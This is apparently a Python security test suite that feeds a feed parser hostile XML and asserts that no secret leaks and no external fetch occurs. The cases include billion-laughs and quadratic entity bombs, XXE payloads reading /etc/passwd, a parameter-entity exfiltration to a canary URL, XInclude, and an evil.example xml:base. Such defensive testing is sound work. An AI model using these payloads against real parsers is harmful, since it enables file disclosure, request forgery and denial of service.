"""Documents that attack their reader: entities, depth, size, and what is no XML at all."""

from __future__ import annotations

from functools import cache

from tests.hostile.case import Case, Expected, Seen, answer, brings, fails, rss, says
from tests.hostile.upstream import Reply, Talk

SECRET = "root:x:0:0"  # the beginning of /etc/passwd


def laughs(levels: int = 12) -> str:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, levels))
    return f"<?xml version='1.0'?><!DOCTYPE rss [{entities}]>" + rss(f"One &a{levels - 1};", head="")


def quadratic() -> str:
    return f'<!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]>' + rss("One " + "&a;" * 50_000, head="")


def outside(declaration: str, use: str = "&x;") -> Reply:
    """A document type whose {canary} is the canary on the very address that we may reach: no entity is ever fetched from anywhere."""

    def reply(talk: Talk) -> bytes:
        told = declaration.format(canary=f"http://127.0.0.1:{talk.canary}", here=f"http://127.0.0.5:{talk.canary}")
        return answer((f"<!DOCTYPE rss {told}>" + rss(f"One{use}", "Two", head="")).encode(), headers=[("Content-Type", "text/xml")])

    return reply


def keeps_quiet(seen: Seen) -> None:
    for entry in seen.entries:
        assert SECRET not in repr(entry)
        assert len(entry.title) < 200
    assert all("expanded" not in request.path for request in seen.requests)


def deep(count: int, name: str = "b") -> str:
    return rss("One", item="<description>" + f"<{name}>" * count + "x" + f"</{name}>" * count + "</description>")


def deep_escaped(count: int) -> str:
    return rss("One", item="<description>" + "&lt;div&gt;" * count + "x</description>")


@cache
def many_names() -> bytes:
    return rss("One", extra="".join(f"<n{number}/>" for number in range(200_000))).encode()


def lazily(make: object) -> Reply:
    return lambda _: answer(make() if isinstance(made := make(), bytes) else made.encode(), headers=[("Content-Type", "text/xml")])  # type: ignore[operator]


SOON = 12.0  # with all the others beside it
ANY = Expected("ends", lambda _: True)
CASES = [
    Case(
        name="billion-laughs",
        serves="entities that multiply to 10^11 letters",
        reply=says(laughs()),
        ends=[brings("One")],
        holds=keeps_quiet,
        within=SOON,
    ),
    Case(
        name="quadratic-blow-up",
        serves="one long entity named fifty thousand times",
        reply=says(quadratic()),
        ends=[brings("One")],
        holds=keeps_quiet,
        within=SOON,
    ),
    Case(
        name="entity-loop",
        serves="entities that name each other",
        reply=says('<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>' + rss("One &a;", head="")),
        ends=[brings("One")],
        holds=keeps_quiet,
    ),
    *(
        Case(
            name=f"entity-{name}", serves=f"an external entity: {told}", reply=outside(told), ends=[brings("One", "Two")], holds=keeps_quiet
        )
        for name, told in {
            "file": '[<!ENTITY x SYSTEM "file:///etc/passwd">]',
            "file-bare": '[<!ENTITY x SYSTEM "/etc/passwd">]',
            "http": '[<!ENTITY x SYSTEM "{canary}/x">]',
            "http-allowed": '[<!ENTITY x SYSTEM "{here}/x">]',
            "public": '[<!ENTITY x PUBLIC "-//x//" "{here}/x">]',
            "ftp": '[<!ENTITY x SYSTEM "ftp://127.0.0.1/x">]',
            "php": '[<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]',
            "device": '[<!ENTITY x SYSTEM "file:///dev/zero">]',
            "parameter": '[<!ENTITY % p SYSTEM "{here}/p.dtd"> %p; %all;]',
            "parameter-file": '[<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{here}/?%f;\'>"> %e; %s;]',
            "unparsed": '[<!NOTATION n SYSTEM "{here}/n"><!ENTITY x SYSTEM "{here}/x" NDATA n>]',
            "shouted": '[<!entity x system "file:///etc/passwd">]',
        }.items()
    ),
    *(
        Case(
            name=f"dtd-{name}",
            serves=f"an external subset: {told}",
            reply=outside(told, ""),
            ends=[brings("One", "Two")],
            holds=keeps_quiet,
        )
        for name, told in {
            "http": 'SYSTEM "{here}/rss.dtd"',
            "public": 'PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "{here}/rss-0.91.dtd"',
            "file": 'SYSTEM "file:///etc/passwd"',
        }.items()
    ),
    Case(
        name="dtd-twice",
        serves="a second document type behind a comment",
        reply=says('<!DOCTYPE rss><!-- --><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + rss("One &x;", head="")),
        ends=[fails("Refused", "Malformed", "NotAFeed")],
        holds=keeps_quiet,
    ),
    Case(
        name="dtd-inside",
        serves="a document type in the middle",
        reply=says(rss("One", extra='<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')),
        ends=[brings("One")],
        holds=keeps_quiet,
    ),
    Case(
        name="dtd-unfinished",
        serves="a document type that never ends",
        reply=says("<!DOCTYPE rss [<!ENTITY a '" + "x" * 1_000_000),
        ends=[fails("NotAFeed", "Malformed", "Refused")],
    ),
    Case(
        name="dtd-utf-16",
        serves="entities hidden in UTF-16 from whoever looks at bytes",
        reply=says(
            (
                '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + rss("One &x;", head="")
            ).encode("utf-16")
        ),
        ends=[brings("One")],
        holds=keeps_quiet,
    ),
    Case(
        name="dtd-utf-7",
        serves="entities hidden in UTF-7",
        reply=says(
            b'<?xml version="1.0" encoding="utf-7"?>'
            + ('<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + rss("One &x;", head="")).encode("utf-7")
        ),
        ends=[ANY],
        holds=keeps_quiet,
    ),
    Case(
        name="dtd-attributes",
        serves="a document type with default attributes: an xml:base that would move every link",
        reply=says(f'<!DOCTYPE rss [<!ATTLIST rss xml:base CDATA "http://evil.example/">]>{rss("One", head="")}'),
        ends=[brings("One")],
        holds=lambda seen: _no_link_to(seen, "evil.example"),
    ),
    Case(
        name="xinclude",
        serves="an XInclude of a file",
        reply=says(
            rss(
                "One",
                item='<description><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
                "</description>",
            )
        ),
        ends=[brings("One")],
        holds=keeps_quiet,
    ),
    Case(
        name="stylesheet",
        serves="a style sheet to be fetched and run",
        reply=lambda talk: answer(
            rss("One", head=f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://127.0.0.5:{talk.canary}/x.xsl"?>').encode()
        ),
        ends=[brings("One")],
    ),
    Case(
        name="schema-location",
        serves="a schema to be fetched",
        reply=lambda talk: answer(
            rss("One")
            .replace(
                "<rss ",
                f"<rss xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='x http://127.0.0.5:{talk.canary}/x.xsd' ",
            )
            .encode()
        ),
        ends=[brings("One")],
    ),
    Case(name="deep-elements", serves="100,000 elements in one another", reply=says(deep(100_000)), ends=[ANY], within=SOON),
    Case(
        name="deep-elements-open",
        serves="a million opened and never closed",
        reply=says("<rss>" + "<a>" * 1_000_000),
        ends=[fails("Malformed", "Refused", "NotAFeed")],
        within=SOON,
    ),
    Case(
        name="deep-feed",
        serves="100,000 channels in one another",
        reply=says("<rss>" + "<channel>" * 100_000),
        ends=[fails("Malformed", "Refused", "NotAFeed")],
        within=SOON,
    ),
    Case(name="deep-300", serves="three hundred elements in one another: odd, not an attack", reply=says(deep(200)), ends=[brings("One")]),
    Case(
        name="deep-html",
        serves="100,000 escaped elements in one another",
        reply=says(deep_escaped(100_000)),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(
        name="deep-inline",
        serves="a body of 20,000 open formatting elements (the adoption agency's worst)",
        reply=says(rss("One", item="<description>" + "&lt;b&gt;&lt;i&gt;&lt;p&gt;" * 7_000 + "</description>")),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(
        name="deep-tables",
        serves="tables in tables",
        reply=says(rss("One", item="<description>" + "&lt;table&gt;&lt;tr&gt;&lt;td&gt;" * 20_000 + "</description>")),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(
        name="attributes-100000",
        serves="an element of 100,000 attributes",
        reply=says(rss("One", extra="<a " + " ".join(f"a{n}='1'" for n in range(100_000)) + "/>")),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(
        name="attributes-100000-html",
        serves="the same inside of a body",
        reply=says(rss("One", item="<description>&lt;p " + " ".join(f"a{n}=1" for n in range(100_000)) + "&gt;x</description>")),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(name="attributes-twice", serves="an attribute twice", reply=says(rss("One", extra="<a b='1' b='2'/>")), ends=[brings("One")]),
    Case(
        name="attribute-9-mb",
        serves="an attribute of 9 MB",
        reply=lambda _: answer(rss("One", extra=f"<a b='{'x' * 9_000_000}'/>").encode()),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(
        name="names-200000",
        serves="200,000 different element names",
        reply=lambda _: answer(many_names()),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(
        name="name-1-mb",
        serves="an element whose name is 1 MB long",
        reply=says(rss("One", extra=f"<{'n' * 1_000_000}/>")),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(
        name="namespaces-50000",
        serves="50,000 namespace declarations",
        reply=says(rss("One", extra="<a " + " ".join(f"xmlns:p{n}='urn:{n}'" for n in range(50_000)) + "/>")),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(
        name="namespaces-nested",
        serves="a namespace bound anew at each of 250 levels, used at the innermost",
        reply=says(rss("One", extra="".join(f"<p:a xmlns:p='urn:{n}'>" for n in range(200)) + "</p:a>" * 200)),
        ends=[brings("One")],
    ),
    Case(
        name="comments-1-mb",
        serves="a comment of 1 MB and many small ones",
        reply=says(rss("One", extra=f"<!--{'x' * 1_000_000}-->" + "<!-- -->" * 50_000)),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(
        name="comment-open",
        serves="a comment that never ends",
        reply=says(rss("One") + "<!--" + "-" * 500_000),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(
        name="cdata-open",
        serves="a CDATA section that never ends",
        reply=says(rss("One", "Two").replace("Two", "<![CDATA[" + "]]" * 300_000)),
        ends=[brings()],
        within=SOON,
    ),
    Case(
        name="ampersands",
        serves="a million bare ampersands",
        reply=says(rss("One", item="<description>" + "& " * 1_000_000 + "</description>")),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(
        name="angle-brackets",
        serves="half a million bare angle brackets",
        reply=says(rss("One", item="<description>" + "< " * 500_000 + "</description>")),
        ends=[fails("Refused", saying="more angle brackets")],
        within=SOON,
    ),
    Case(
        name="angle-brackets-escaped",
        serves="half a million escaped angle brackets in a title",
        reply=says(rss("One " + "&lt;a " * 100_000)),
        ends=[brings(count=1)],
        within=SOON,
    ),
    Case(
        name="quotes-open",
        serves="attributes whose quotes never close",
        reply=says(rss("One", item="<description>" + "&lt;a href=&quot;" * 100_000 + "</description>")),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(
        name="references-malformed",
        serves="references to what does not exist",
        reply=says(rss("One &#x110000; &#xFFFFFFFFF; &#; &#x; &nonsense; &#0;")),
        ends=[brings(count=1)],
    ),
    Case(
        name="cut-in-the-middle",
        serves="a feed that ends in the middle of an item: what is whole is kept",
        reply=says(rss("One", "Two")[:-60]),
        ends=[brings()],
    ),
    Case(
        name="processing-instructions",
        serves="50,000 processing instructions",
        reply=says(rss("One", head="<?x y?>" * 50_000)),
        ends=[brings("One")],
        within=SOON,
    ),
    Case(name="two-documents", serves="two feeds behind one another", reply=says(rss("One") + rss("Two", head="")), ends=[brings()]),
    Case(
        name="xslt-as-feed",
        serves="a style sheet that names itself a feed",
        reply=says("<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'/></xsl:stylesheet>"),
        ends=[fails("NotAFeed", "Malformed")],
    ),
    Case(
        name="svg-as-feed",
        serves="a picture with a script",
        reply=says("<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"),
        ends=[fails("NotAFeed")],
    ),
]


def _no_link_to(seen: Seen, host: str) -> None:
    assert all(host not in (entry.link or "") for entry in seen.entries)
